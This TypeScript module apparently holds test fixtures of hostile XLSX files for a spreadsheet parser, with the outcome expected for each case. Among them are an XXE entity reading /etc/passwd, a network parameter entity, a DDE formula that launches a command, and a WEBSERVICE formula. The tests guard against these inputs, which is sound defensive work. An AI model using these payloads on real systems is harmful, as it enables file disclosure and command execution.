import { unreadable } from '#shared/text/sheets.ts'
import {
  listed,
  office,
  packedWith,
  plain,
  plainRow,
  sheetPart,
  worksheet,
  type HostileFile,
} from './hostile-file.ts'
import { packRaw } from './workbook-maker.ts'

const inlineText = (text: string) =>
  `<row r="1"><c r="A1" t="inlineStr"><is>${text}</is></c><c r="B1"><v>5</v></c></row>`

const dates = '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'
const day = (text: string) => ({ kind: 'day', day: text, precision: 'day' })

export const strangeXml: readonly HostileFile[] = [
  {
    name: 'an entity from another file',
    make: () =>
      packRaw({
        parts: {
          [sheetPart]:
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet>&f;</worksheet>',
        },
      }),
    refused: unreadable.definitions,
  },
  {
    name: 'a parameter entity from the network',
    make: () =>
      packRaw({
        parts: {
          'xl/sharedStrings.xml': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.invalid/x"> %p;]><sst/>',
        },
      }),
    refused: unreadable.definitions,
  },
  {
    name: 'tags within tags without end',
    make: () => packRaw({ rows: `${'<a>'.repeat(500_000)}${'</a>'.repeat(500_000)}${plainRow}` }),
    reads: plain,
  },
  {
    name: 'halves of characters by number',
    make: () => packRaw({ rows: inlineText('<t>&#xD800;</t>') }),
    refused: unreadable.damaged,
  },
  {
    name: 'halves of characters in the escapes of Excel',
    make: () => packRaw({ rows: inlineText('<t>A_xD83D_B</t>') }),
    reads: [['A\ufffdB', 5]],
  },
  {
    name: 'bytes that are no UTF-8',
    make: () => packRaw({ rows: inlineText('<t>\ufffdA</t>') }),
    reads: [['\ufffdA', 5]],
  },
  {
    name: 'a mark (BOM) and spaces before the XML',
    make: () =>
      packRaw({ parts: { [sheetPart]: `\ufeff <worksheet><sheetData>${plainRow}</sheetData></worksheet>` } }),
    reads: plain,
  },
  {
    name: 'a string of 90 MB',
    make: () => {
      const strings = Buffer.concat([
        Buffer.from('<sst><si><t>'),
        Buffer.alloc(90_000_000, 'abcdefghij'),
        Buffer.from('</t></si></sst>'),
      ])
      return packedWith('xl/sharedStrings.xml', { content: strings, method: 0 })
    },
    refused: unreadable.tooLongText('1.000.000'),
  },
  {
    name: 'a string of many short runs',
    make: () =>
      packRaw({ strings: `<si>${`<r><t>${'x'.repeat(900)}</t></r>`.repeat(2_000)}</si>`, rows: plainRow }),
    refused: unreadable.tooLongText('1.000.000'),
  },
  {
    name: 'the text of a cell in many short runs',
    make: () => packRaw({ rows: inlineText(`<r><t>${'x'.repeat(900)}</t></r>`.repeat(2_000)) }),
    refused: unreadable.tooLongText('1.000.000'),
  },
  {
    name: 'more text than a sheet may hold',
    make: () => {
      const texts = Array.from({ length: 70 }, (_, at) => `<si><t>${at}${'xyz '.repeat(230_000)}</t></si>`)
      return packedWith('xl/sharedStrings.xml', { content: `<sst>${texts.join('')}</sst>`, method: 0 })
    },
    refused: unreadable.tooMuchText('60.000.000'),
  },
]

export const strangeSheets: readonly HostileFile[] = [
  {
    name: 'a million rows of nothing',
    make: () =>
      packRaw({
        rows: Array.from({ length: 1_048_575 }, (_, at) => `<row r="${at + 2}" ht="${at % 977}"/>`).join(''),
      }),
    reads: [],
  },
  {
    name: 'a row with the number 1,000,000,000',
    make: () => packRaw({ rows: '<row r="1000000000"><c><v>1</v></c></row>' }),
    refused: unreadable.damaged,
  },
  {
    name: 'a dimension that is a lie',
    make: () =>
      packRaw({
        parts: {
          [sheetPart]: `<worksheet><dimension ref="A1:XFD1048576"/><sheetData>${plainRow}</sheetData></worksheet>`,
        },
      }),
    reads: plain,
  },
  {
    name: 'cells that are out of order',
    make: () =>
      packRaw({
        rows: '<row r="1"><c r="C1"><v>3</v></c><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row>',
      }),
    reads: [[1, 2, 3]],
  },
  {
    name: 'a cell that is there twice',
    make: () => packRaw({ rows: '<row r="7"><c r="B7"><v>1</v></c><c r="B7"><v>2</v></c></row>' }),
    refused: unreadable.sameCellTwice('B7'),
  },
  {
    name: 'a row that is there twice',
    make: () => packRaw({ rows: plainRow + plainRow }),
    refused: unreadable.damaged,
  },
  {
    name: 'a shared text below the first',
    make: () => packRaw({ rows: '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>' }),
    refused: unreadable.damaged,
  },
  {
    name: 'a number without end',
    make: () => packRaw({ rows: '<row r="1"><c r="A1"><v>1e999</v></c></row>' }),
    refused: unreadable.damaged,
  },
  {
    name: 'dates before and behind all time',
    make: () =>
      packRaw({
        styles: dates,
        rows: '<row r="1"><c r="A1" s="1"><v>-5</v></c><c r="B1" s="1"><v>1e300</v></c><c r="C1" s="1"><v>60</v></c><c r="D1" t="d"><v>9999-99-99</v></c><c r="E1" s="1"><v>46064</v></c></row>',
      }),
    reads: [[-5, 1e300, day('1900-03-01'), '9999-99-99', day('2026-02-11')]],
  },
  {
    name: 'cells with a look that nobody described',
    make: () => packRaw({ rows: '<row r="1"><c r="A1" s="4000000000"><v>1</v></c></row>' }),
    reads: [[1]],
  },
  {
    name: 'more cells than a sheet may have',
    make: () => {
      const row = (at: number) => `<row r="${at}"><c r="SF${at}"><v>${at}</v></c></row>`
      return packRaw({ rows: Array.from({ length: 20_001 }, (_, at) => row(at + 1)).join('') })
    },
    refused: unreadable.tooManyCells('10.000.000'),
  },
  {
    name: 'more merged ranges than a sheet may have',
    make: () => {
      const merge = (at: number) => `<mergeCell ref="A${at}:B${at}"/>`
      return packRaw({
        rows: plainRow,
        after: Array.from({ length: 200_001 }, (_, at) => merge(at + 1)).join(''),
      })
    },
    refused: unreadable.tooManyMerges('200.000'),
  },
  {
    name: 'one merged range over everything',
    make: () => packRaw({ rows: plainRow, after: '<mergeCell ref="A1:XFD1048576"/>' }),
    reads: plain,
  },
  {
    name: 'formulas that call programs and the network: only their results are read',
    make: () =>
      packRaw({
        rows:
          '<row r="1"><c r="A1" t="str"><f>cmd|\'/C calc\'!A0</f><v>x</v></c><c r="B1"><f>WEBSERVICE("http://example.invalid")</f><v>5</v></c>' +
          '<c r="C1" t="e"><f>#REF!</f><v>#REF!</v></c><c r="D1"><f>A1</f></c></row>',
      }),
    reads: [['x', 5, { kind: 'error', shown: '#REF!' }, { kind: 'error', shown: '' }]],
  },
  {
    name: 'only hidden sheets',
    make: () =>
      packRaw({
        rows: plainRow,
        parts: listed(
          '<sheet name="A" sheetId="1" state="veryHidden" r:id="r1"/>',
          worksheet('r1', 'worksheets/sheet1.xml'),
        ),
      }),
    reads: plain,
    warns: ['HIDDEN_SHEET'],
  },
  {
    name: 'only a sheet with a chart',
    make: () =>
      packRaw({
        parts: listed(
          '<sheet name="A" sheetId="1" r:id="r1"/>',
          `<Relationship Id="r1" Type="${office}/chartsheet" Target="chartsheets/sheet1.xml"/>`,
        ),
      }),
    refused: unreadable.noSheets,
  },
  {
    name: 'two sheets of one name',
    make: () =>
      packRaw({
        parts: {
          'xl/worksheets/sheet2.xml': '<worksheet/>',
          ...listed(
            '<sheet name="A" sheetId="1" r:id="r1"/><sheet name="A" sheetId="2" r:id="r2"/>',
            worksheet('r1', 'worksheets/sheet1.xml') + worksheet('r2', 'worksheets/sheet2.xml'),
          ),
        },
      }),
    refused: unreadable.sameSheetTwice('A'),
  },
  {
    name: 'hundreds of sheets that are all one part',
    make: () =>
      packRaw({
        rows: plainRow,
        parts: listed(
          Array.from({ length: 900 }, (_, at) => `<sheet name="A${at}" sheetId="${at}" r:id="r1"/>`).join(''),
          worksheet('r1', 'worksheets/sheet1.xml'),
        ),
      }),
    refused: unreadable.damaged,
  },
  {
    name: 'hidden rows and columns',
    make: () =>
      packRaw({
        parts: {
          [sheetPart]: `<worksheet><cols><col min="2" max="2" hidden="1"/><col min="9" max="16384" hidden="1"/></cols><sheetData>${plainRow}<row r="2" hidden="1"><c r="A2"><v>1</v></c></row></sheetData></worksheet>`,
        },
      }),
    reads: [['Mã', 5], [1]],
    warns: ['HIDDEN_ROWS', 'HIDDEN_COLUMNS'],
  },
]
